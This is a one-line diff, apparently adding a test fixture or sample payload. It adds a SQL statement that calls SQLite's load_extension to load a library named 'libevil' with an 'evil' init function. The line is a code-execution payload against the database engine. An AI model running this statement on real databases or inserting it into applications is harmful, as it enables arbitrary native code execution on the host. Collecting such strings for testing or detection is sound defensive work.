@@ -1,0 +1,1 @@
+SELECT load_extension('libevil', 'sqlite3_evil_init') FROM orders LIMIT 1
